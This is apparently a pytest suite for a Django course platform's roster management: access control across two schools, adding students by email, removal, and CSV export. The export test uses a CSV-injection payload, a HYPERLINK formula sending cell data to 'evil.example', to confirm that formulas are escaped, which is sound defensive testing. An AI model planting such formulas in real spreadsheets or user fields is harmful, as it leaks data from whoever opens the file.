"""The course roster in the management area: list, add by email, remove, CSV export.

Two schools throughout; ORM reads of tenant rows run inside ``in_school``.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable
from typing import Any

import pytest
from django.test import Client

from courseplatform.accounts.models import User
from courseplatform.courses.models import Enrollment, LessonProgress
from courseplatform.courses.views_manage.people import csv_safe
from tests.fixtures.schools import PASSWORD

from .test_student_views import (
    Built,
    build_course,
    client_as,
    complete,
    count_queries,
    enroll,
    new_user,
    text,
)

pytestmark = pytest.mark.django_db

NEW_PASSWORD = "a-fresh-invited-passphrase-9"
FORMULA_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'


def roster_url(built: Built, suffix: str = "") -> str:
    return f"/manage/courses/{built.course.pk}/students/{suffix}"


def csv_url(built: Built) -> str:
    return f"/manage/courses/{built.course.pk}/students.csv"


@pytest.fixture
def course_a(school_a: Any) -> Built:
    return build_course(school_a.school, school_a.owner)


def _enrollment(school: Any, in_school: Callable[[Any], Any], **filters: Any) -> Enrollment | None:
    with in_school(school):
        return Enrollment.objects.filter(**filters).select_related("student").first()


# --- list -----------------------------------------------------------------------------------


def test_roster_lists_students_with_progress_dates_and_source(
    school_a: Any, course_a: Built
) -> None:
    ada = new_user(school_a.school, "ada@alpha.test", name="Ada Lovelace")
    bob = new_user(school_a.school, "bob@alpha.test", name="Bob Builder")
    enroll(school_a.school, school_a.owner, course_a.course, ada, bob)
    complete(school_a.school, ada, *course_a.lessons[:3])

    response = client_as(school_a.owner, school_a.school).get(roster_url(course_a))
    assert response.status_code == 200
    page = text(response)
    assert "2 students enrolled" in page
    assert "Ada Lovelace" in page and "bob@alpha.test" in page
    assert 'value="75"' in page and "3/4 lessons" in page
    assert 'value="0"' in page and "0/4 lessons" in page
    assert "Added by instructor" in page
    assert page.index("Ada Lovelace") < page.index("Bob Builder")
    assert f'href="{csv_url(course_a)}"' in page
    assert 'data-nav-active="courses"' in page


def test_roster_is_for_managers_of_the_course_only(
    school_a: Any, make_user: Callable[..., Any], course_a: Built
) -> None:
    student = new_user(school_a.school, "sam@alpha.test")
    anonymous = client_as(None, school_a.school).get(roster_url(course_a))
    assert anonymous.status_code == 302 and anonymous["Location"].startswith("/accounts/login/")
    assert client_as(student, school_a.school).get(roster_url(course_a)).status_code == 403
    assert client_as(student, school_a.school).get(csv_url(course_a)).status_code == 403
    # An instructor who does not teach this course: 403 (another school's would be 404).
    instructor = make_user(school_a.school, "teach@alpha.test", role="instructor")
    client = client_as(instructor, school_a.school)
    assert client.get(roster_url(course_a)).status_code == 403
    assert client.get(csv_url(course_a)).status_code == 403
    # Their own course works.
    own = build_course(school_a.school, instructor, title="Instructor Course")
    assert client.get(roster_url(own)).status_code == 200


def test_another_schools_manager_gets_404_for_roster_csv_add_and_remove(
    school_a: Any,
    school_b: Any,
    course_a: Built,
    in_school: Callable[[Any], Any],
    mailoutbox: list[Any],
) -> None:
    ada = new_user(school_a.school, "ada@alpha.test", name="Ada Lovelace")
    enroll(school_a.school, school_a.owner, course_a.course, ada)
    enrollment = _enrollment(school_a.school, in_school, student=ada)
    assert enrollment is not None
    build_course(school_b.school, school_b.owner, title="Bravo Course")

    owner_b = client_as(school_b.owner, school_b.school)
    assert owner_b.get(roster_url(course_a)).status_code == 404
    assert owner_b.get(csv_url(course_a)).status_code == 404
    added = owner_b.post(roster_url(course_a, "add/"), {"email": "mallory@bravo.test"})
    assert added.status_code == 404
    remove = roster_url(course_a, f"{enrollment.pk}/remove/")
    assert owner_b.get(remove).status_code == 404
    assert owner_b.post(remove).status_code == 404
    # Nothing changed in A, nothing created in B, no mail went out.
    assert _enrollment(school_a.school, in_school, pk=enrollment.pk) is not None
    with in_school(school_b.school):
        assert not User.objects.filter(email="mallory@bravo.test").exists()
        assert not Enrollment.objects.exists()
    assert mailoutbox == []


# --- add --------------------------------------------------------------------------------------


def test_add_existing_student_enrols_without_invitation(
    school_a: Any, course_a: Built, in_school: Callable[[Any], Any], mailoutbox: list[Any]
) -> None:
    ada = new_user(school_a.school, "ada@alpha.test", name="Ada Lovelace")
    client = client_as(school_a.owner, school_a.school)
    response = client.post(roster_url(course_a, "add/"), {"email": "  ADA@alpha.test "})
    assert response.status_code == 302 and response["Location"] == roster_url(course_a)
    enrollment = _enrollment(school_a.school, in_school, student=ada, course=course_a.course)
    assert enrollment is not None and enrollment.source == Enrollment.Source.MANUAL
    assert mailoutbox == []
    page = text(client.get(roster_url(course_a)))
    assert "No invitation was sent" in page and "Ada Lovelace" in page


def test_add_new_email_creates_account_and_invitation_that_sets_a_password(
    school_a: Any, course_a: Built, in_school: Callable[[Any], Any], mailoutbox: list[Any]
) -> None:
    client = client_as(school_a.owner, school_a.school)
    response = client.post(
        roster_url(course_a, "add/"), {"email": "new@alpha.test", "full_name": "New Person"}
    )
    assert response.status_code == 302
    assert "emailed an invitation" in text(client.get(roster_url(course_a)))
    with in_school(school_a.school):
        user = User.objects.get(school=school_a.school, email="new@alpha.test")
        assert user.full_name == "New Person" and user.role == User.Role.STUDENT
        assert not user.has_usable_password()
        assert Enrollment.objects.filter(student=user, course=course_a.course).exists()

    assert len(mailoutbox) == 1 and mailoutbox[0].to == ["new@alpha.test"]
    assert "Python Basics" in mailoutbox[0].body
    match = re.search(
        r"https?://alpha\.localhost[^/\s]*(/accounts/password-reset/\S+/)", mailoutbox[0].body
    )
    assert match, mailoutbox[0].body
    invited = Client(HTTP_HOST="alpha.localhost")
    assert invited.get(match.group(1)).status_code == 200
    chosen = invited.post(match.group(1), {"password": NEW_PASSWORD})
    assert chosen.status_code == 302 and chosen["Location"] == "/accounts/login/"
    login = invited.post("/accounts/login/", {"email": "new@alpha.test", "password": NEW_PASSWORD})
    assert login.status_code == 302
    # Logged in, the new student finds the course under My courses.
    assert "Python Basics" in text(invited.get("/my/"))


def test_add_invalid_email_shows_the_error(school_a: Any, course_a: Built) -> None:
    client = client_as(school_a.owner, school_a.school)
    response = client.post(roster_url(course_a, "add/"), {"email": "not-an-address"})
    assert response.status_code == 400
    assert 'id="id_email_error"' in text(response)


def test_add_needs_post(school_a: Any, course_a: Built) -> None:
    client = client_as(school_a.owner, school_a.school)
    assert client.get(roster_url(course_a, "add/")).status_code == 405


# --- remove -----------------------------------------------------------------------------------


def test_remove_student_asks_then_removes_enrolment_and_progress(
    school_a: Any, course_a: Built, in_school: Callable[[Any], Any]
) -> None:
    ada = new_user(school_a.school, "ada@alpha.test", name="Ada Lovelace")
    enroll(school_a.school, school_a.owner, course_a.course, ada)
    complete(school_a.school, ada, course_a.lessons[0])
    enrollment = _enrollment(school_a.school, in_school, student=ada)
    assert enrollment is not None
    url = roster_url(course_a, f"{enrollment.pk}/remove/")
    client = client_as(school_a.owner, school_a.school)

    confirm = client.get(url)
    assert confirm.status_code == 200 and "Remove Ada Lovelace from this course?" in text(confirm)
    assert _enrollment(school_a.school, in_school, pk=enrollment.pk) is not None

    response = client.post(url)
    assert response.status_code == 302 and response["Location"] == roster_url(course_a)
    assert _enrollment(school_a.school, in_school, pk=enrollment.pk) is None
    with in_school(school_a.school):
        assert not LessonProgress.objects.filter(student=ada).exists()
        assert User.objects.filter(pk=ada.pk).exists()  # the account stays
    assert "was removed" in text(client.get(roster_url(course_a)))


def test_remove_enrolment_of_another_course_is_404(
    school_a: Any, course_a: Built, in_school: Callable[[Any], Any]
) -> None:
    other = build_course(school_a.school, school_a.owner, title="Other Course")
    ada = new_user(school_a.school, "ada@alpha.test")
    enroll(school_a.school, school_a.owner, other.course, ada)
    enrollment = _enrollment(school_a.school, in_school, student=ada)
    assert enrollment is not None
    client = client_as(school_a.owner, school_a.school)
    assert client.post(roster_url(course_a, f"{enrollment.pk}/remove/")).status_code == 404
    assert _enrollment(school_a.school, in_school, pk=enrollment.pk) is not None


# --- CSV --------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+SUM(A1)", "'+SUM(A1)"),
        ("-2", "'-2"),
        ("@cmd", "'@cmd"),
        ("\tTabbed", "'\tTabbed"),
        ("\rReturned", "'\rReturned"),
        ("Ada", "Ada"),
        ("", ""),
        (75, 75),
    ],
)
def test_csv_safe_neutralises_formulas(value: Any, expected: Any) -> None:
    assert csv_safe(value) == expected


def test_csv_export_has_the_columns_rows_and_escapes_formulas(
    school_a: Any, course_a: Built
) -> None:
    ada = new_user(school_a.school, "ada@alpha.test", name="Ada Lovelace")
    evil = new_user(school_a.school, "evil@alpha.test", name=FORMULA_NAME)
    plus = new_user(school_a.school, "+plus@alpha.test", name="@mention")
    enroll(school_a.school, school_a.owner, course_a.course, ada, evil, plus)
    complete(school_a.school, ada, *course_a.lessons[:2])

    response = client_as(school_a.owner, school_a.school).get(csv_url(course_a))
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="python-basics-students.csv"'
    body = response.content.decode("utf-8")
    assert body.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(body.lstrip("\ufeff"))))
    assert rows[0] == [
        "name",
        "email",
        "enrolled_at",
        "last_activity",
        "progress_percent",
        "completed_lessons",
        "total_lessons",
        "source",
    ]
    by_email = {row[1]: row for row in rows[1:]}
    assert len(by_email) == 3
    assert by_email["ada@alpha.test"][0] == "Ada Lovelace"
    assert by_email["ada@alpha.test"][4:] == ["50", "2", "4", "manual"]
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\+00:00", by_email["ada@alpha.test"][2])
    assert by_email["ada@alpha.test"][3] != ""
    assert by_email["evil@alpha.test"][0] == "'" + FORMULA_NAME
    assert by_email["evil@alpha.test"][3] == ""  # never active
    assert by_email["'+plus@alpha.test"][0] == "'@mention"
    assert "ada@alpha.test" in body and PASSWORD not in body


# --- query counts -------------------------------------------------------------------------------


def test_roster_and_csv_run_a_constant_number_of_queries(school_a: Any) -> None:
    def course_with(title: str, sections: int, per_section: int, students: int) -> Built:
        built = build_course(
            school_a.school,
            school_a.owner,
            title=title,
            sections=sections,
            per_section=per_section,
        )
        users = [
            new_user(school_a.school, f"{built.course.slug}-{i}@alpha.test", name=f"S {i}")
            for i in range(students)
        ]
        enroll(school_a.school, school_a.owner, built.course, *users)
        for i, user in enumerate(users):
            complete(school_a.school, user, *built.lessons[: i % len(built.lessons) + 1])
        return built

    small = course_with("Small Course", 2, 2, 3)
    big = course_with("Big Course", 4, 5, 12)
    client = client_as(school_a.owner, school_a.school)
    assert count_queries(client, roster_url(small)) == count_queries(client, roster_url(big))
    assert count_queries(client, csv_url(small)) == count_queries(client, csv_url(big))
